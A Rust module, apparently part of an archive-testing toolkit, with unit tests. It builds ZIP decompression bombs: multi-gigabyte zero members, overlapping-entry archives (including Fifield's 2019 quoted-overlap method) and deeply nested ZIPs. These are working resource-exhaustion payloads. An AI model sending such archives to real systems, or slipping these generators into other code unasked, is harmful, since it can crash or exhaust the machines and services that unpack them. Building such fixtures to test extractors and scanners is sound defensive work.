//! ZIP bombs, built without compressing what they unpack to.

use super::{Archive, Entry, simple};
use crate::bits::{crc32_repeated, deflate_repeated};
use crate::{noise, payload};

/// A member of `chunk * times` zero bytes.
pub fn zeros(name: &str, chunk: usize, times: usize) -> Entry {
    repeated(name, &vec![0; chunk], times)
}

/// A member of `mib` MiB that packs to about a twentieth: long, but no bomb; `seed` makes it differ from others.
pub fn filler(name: &str, seed: u64, mib: usize) -> Entry {
    let line = |part: &[u8]| [part, &[b'.'; 984]].concat();
    let chunk: Vec<u8> = noise(seed, 40 << 10).chunks(40).flat_map(line).collect();
    repeated(name, &chunk, mib)
}

/// A member of `chunk` repeated `times`; longer than 4 GiB it carries a zip64 extra field.
pub fn repeated(name: &str, chunk: &[u8], times: usize) -> Entry {
    let total = chunk.len() as u64 * times as u64;
    let data = deflate_repeated(chunk, times);
    let crc = crc32_repeated(chunk, times as u64);
    let packed = data.len() as u64;
    Entry::packed(name, b"", 8, data).both(|f| {
        f.crc = crc;
        if total < u64::from(u32::MAX) {
            f.plain = total as u32;
            return;
        }
        f.version = 45;
        f.plain = u32::MAX;
        f.packed = u32::MAX;
        f.extra = super::extra(1, &[total.to_le_bytes(), packed.to_le_bytes()].concat());
    })
}

/// `count` directory entries that all name one local header and its deflated `plain` bytes.
pub fn full_overlap(count: usize, plain: &[u8]) -> Vec<u8> {
    let first = Entry::deflated("000000.txt", plain);
    let others = (1..count).map(|n| {
        let name = format!("{n:06}.txt");
        first.clone().central(|f| f.name = name.clone().into_bytes()).with(|e| {
            e.present = false;
            e.offset = Some(0);
        })
    });
    Archive::of(std::iter::once(first.clone()).chain(others).collect()).build()
}

/// `count` members that overlap without lying: each one quotes the next local header and then shares its data (Fifield 2019).
///
/// Every member unpacks to at least `chunk * times` zero bytes, and both views of it agree.
pub fn quoted_overlap(count: usize, chunk: usize, times: usize) -> Vec<u8> {
    let kernel = zeros(&format!("{:06}", count - 1), chunk, times);
    let data = kernel.data.clone();
    let mut entries = vec![kernel];
    let mut headers = vec![super::archive::local_header(&entries[0])];
    for n in (0..count - 1).rev() {
        let (next, header) = (&entries[entries.len() - 1], &headers[headers.len() - 1]);
        let len = header.len() as u16;
        let quote = [&[0][..], &len.to_le_bytes(), &(!len).to_le_bytes()].concat();
        let mut sum = crc32fast::Hasher::new();
        sum.update(header);
        sum.combine(&crc32fast::Hasher::new_with_initial_len(
            next.local.crc,
            u64::from(next.local.plain),
        ));
        let entry = Entry::packed(format!("{n:06}"), b"", 8, quote).both(|f| {
            f.crc = sum.clone().finalize();
            f.plain = next.local.plain + u32::from(len);
            f.packed = next.local.packed + u32::from(len) + 5;
        });
        headers.push(super::archive::local_header(&entry));
        entries.push(entry);
    }
    entries.reverse();
    let mut archive = Archive::of(entries);
    if let Some(last) = archive.entries.last_mut() {
        last.data = data;
    }
    archive.build()
}

/// `count` small members in one archive, the last one with `marker(seed)`.
pub fn many_members(count: usize, seed: &str) -> Vec<u8> {
    let small = (1..count).map(|n| Entry::deflated(format!("f{n:06}.txt"), format!("member {n}\n").as_bytes()));
    Archive::of(small.chain([Entry::deflated("last.txt", &payload(seed))]).collect()).build()
}

/// `inner` as a file in a ZIP in a ZIP …, `depth` archives in all.
pub fn nested(depth: usize, inner: &[u8]) -> Vec<u8> {
    (1..depth).fold(simple(&[("inner.txt", inner)]), |zip, level| {
        simple(&[(&format!("level{level}.zip"), &zip)])
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::bits::crc32;
    use std::io::{Cursor, Read};

    #[test]
    fn quoted_overlap_is_valid_in_another_reader() {
        let bytes = quoted_overlap(30, 1 << 16, 2);
        let mut archive = ::zip::ZipArchive::new(Cursor::new(&bytes)).unwrap();
        assert_eq!(archive.len(), 30);
        for index in [0, 13, 29] {
            let mut out = Vec::new();
            archive.by_index(index).unwrap().read_to_end(&mut out).unwrap();
            assert!(out.len() >= 1 << 17);
            assert_eq!(crc32(&out), archive.by_index(index).unwrap().crc32());
        }
    }

    #[test]
    fn ten_gib_is_made_at_once_and_says_so() {
        let bytes = Archive::of(vec![zeros("zeros.bin", 64 << 20, 160)])
            .with(|a| a.zip64 = true)
            .build();
        assert!(bytes.len() < 12 << 20);
        let mut archive = ::zip::ZipArchive::new(Cursor::new(&bytes)).unwrap();
        assert_eq!(archive.by_index(0).unwrap().size(), 10 << 30);
    }

    #[test]
    fn filler_is_long_and_no_bomb() {
        let entry = filler("f.bin", 1, 3);
        let ratio = entry.local.plain / entry.local.packed;
        assert_eq!(entry.local.plain, 3 << 20);
        assert!((10..40).contains(&ratio), "{ratio}");
        let mut out = Vec::new();
        flate2::read::DeflateDecoder::new(&entry.data[..]).read_to_end(&mut out).unwrap();
        assert_eq!(crc32(&out), entry.local.crc);
    }

    #[test]
    fn nesting_has_the_asked_depth() {
        let mut zip = nested(5, b"core");
        let mut depth = 0;
        while zip.starts_with(b"PK") {
            let mut out = Vec::new();
            ::zip::ZipArchive::new(Cursor::new(&zip))
                .unwrap()
                .by_index(0)
                .unwrap()
                .read_to_end(&mut out)
                .unwrap();
            zip = out;
            depth += 1;
        }
        assert_eq!((depth, zip.as_slice()), (5, b"core".as_slice()));
    }
}
